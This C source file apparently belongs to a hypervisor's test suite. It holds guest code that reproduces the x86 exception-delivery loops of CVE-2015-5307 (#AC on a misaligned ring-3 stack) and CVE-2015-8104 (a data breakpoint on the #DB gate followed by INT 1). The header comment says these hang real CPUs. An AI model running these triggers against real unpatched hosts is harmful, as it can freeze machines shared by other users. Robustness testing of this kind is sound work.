/*
 * Exception-delivery loops, legal x86 that never ends natively: on real
 * hardware the CPU hangs in microcode (CVE-2015-5307, CVE-2015-8104). Under
 * the hypervisor each nested delivery is a VM exit, so the VM is preempted
 * like a spinning one and the other VMs go on.
 */
#include "cpu.h"
#include "guest.h"
#include "hostile.h"
#include "x86.h"

#define VEC_DB        1
#define VEC_AC        17
#define CR0_AM        0x00040000 /* alignment mask */
#define EFLAGS_AC     0x00040000 /* alignment check */
#define DR7_L0_RW4    0x000F0401 /* breakpoint 0 on 4-byte reads and writes. SDM Vol3A 17.2.4 */

/* The IDT entry of vector v, as cpu_init() built it. */
static volatile uint32_t *idt_entry(int v)
{
	struct table_reg idtr;

	__asm__ volatile("sidt %0" : "=m"(idtr));
	return (volatile uint32_t *)(idtr.base + 8 * v);
}

static uint8_t user_stack[4096] __attribute__((aligned(16)));

/* Ring 3: a 4-byte read on a stack 3 bytes off alignment. */
__attribute__((naked)) static void misaligned_read(void)
{
	__asm__ volatile("movl (%esp), %eax\n1: jmp 1b");
}

void attack_alignment_loop(void)
{
	struct trap_frame tf;

	cpu_init();
	/* #AC goes to ring-3 code: no stack switch, so its frame lands on the misaligned stack. */
	idt_entry(VEC_AC)[0] = (idt_entry(VEC_AC)[0] & 0xFFFF) | (uint32_t)SEG_UCODE << 16;
	write_cr0(read_cr0() | CR0_AM);
	trap_frame_user(&tf, (uint32_t)misaligned_read, (uint32_t)(user_stack + sizeof(user_stack) - 3));
	tf.eflags |= EFLAGS_AC;
	gprintf("hostile: ring 3, CR0.AM and EFLAGS.AC, stack at 0x%x\n", tf.user_esp);
	trap_return(&tf);
}

void attack_debug_loop(void)
{
	cpu_init();
	uint32_t entry = (uint32_t)idt_entry(VEC_DB);

	gprintf("hostile: data breakpoint on the #DB gate at 0x%x, then INT 1\n", entry);
	__asm__ volatile("mov %0, %%dr0; mov %1, %%dr7" : : "r"(entry), "r"(DR7_L0_RW4));
	__asm__ volatile("int $1");
	gprintf("hostile: INT 1 returned: no delivery loop\n");
}
